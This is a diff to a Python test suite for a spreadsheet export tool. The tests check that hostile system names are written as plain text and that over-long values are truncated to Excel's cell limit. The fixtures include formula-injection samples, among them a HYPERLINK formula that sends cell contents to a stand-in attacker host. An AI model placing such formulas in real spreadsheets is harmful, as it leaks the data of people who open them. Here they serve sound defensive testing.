@@ -24,6 +24,7 @@ HOSTILE_NAMES = {
     "snabel": "@SUM(A1)",
     "fel": "#N/A",
     "styr": "klocka \x07 och \x1b[31m röd",
+    "lang": "x" * 40_000,
 }
 
 
@@ -67,11 +68,12 @@ def test_export_never_writes_a_formula_and_keeps_text_text(hostile_names, run, t
     assert cells["formel"].value == '=HYPERLINK("https://evil.example/?"&A1,"Klicka här")'
     assert cells["fel"].value == "#N/A" and cells["fel"].data_type == "s"
     assert cells["styr"].value == "klocka \\x07 och \\x1b[31m röd"  # shown, as everywhere else
+    assert cells["lang"].value == "x" * 32_766 + "…"  # what Excel holds in a cell
     assert not cells["ekonomisystem"].quotePrefix
 
 
 def test_an_export_with_such_values_imports_back_unchanged(hostile_names, run, tmp_path):
-    for key in ("styr",):  # a control character is shown escaped: that one cannot come back
+    for key in ("styr", "lang"):  # shown escaped, or cut: those cannot come back
         (hostile_names / f"architecture/systems/{key}.yaml").unlink()
     out = tmp_path / "landskap.xlsx"
     assert run("export", hostile_names, "--out", out, "--as-of", AS_OF).exit_code == 0
